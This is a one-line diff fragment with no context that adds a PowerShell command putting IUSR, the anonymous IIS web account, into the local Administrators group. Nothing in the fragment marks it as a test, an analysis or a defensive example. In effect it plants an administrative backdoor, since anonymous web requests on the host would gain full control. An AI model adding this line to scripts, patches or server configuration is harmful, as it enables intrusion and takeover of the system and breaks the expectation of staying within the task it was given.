@@ -1,0 +1,1 @@
+Invoke-Command -ScriptBlock { param($account) net localgroup Administrators $account /add } -ArgumentList 'IUSR'
